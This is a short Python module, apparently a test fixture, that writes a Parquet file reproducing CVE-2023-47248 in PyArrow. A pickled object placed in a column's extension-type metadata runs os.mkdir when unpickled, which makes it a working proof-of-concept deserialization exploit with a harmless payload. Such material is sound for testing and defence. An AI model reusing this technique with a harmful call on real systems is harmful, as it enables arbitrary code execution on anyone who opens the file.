"""A Parquet file with a column whose type is a pickle, as CVE-2023-47248 has it: whoever unpickles it makes a folder."""

import os
import pickle
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

__all__ = ["MakesFolder", "write_pickled"]


class MakesFolder:
    """Unpickled, it makes the folder ``proof``."""

    def __init__(self, proof: Path) -> None:
        self.proof = str(proof)

    def __reduce__(self):
        return os.mkdir, (self.proof,)


def write_pickled(table: pa.Table, path: Path, proof: Path) -> None:
    """Write ``table`` and one more column, ``extra``; ``proof`` is a folder once the type was unpickled."""
    kind = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickle.dumps(MakesFolder(proof), 0)}
    field = pa.field("extra", pa.int64(), metadata=kind)
    pq.write_table(table.append_column(field, pa.array([1] * table.num_rows)), path)
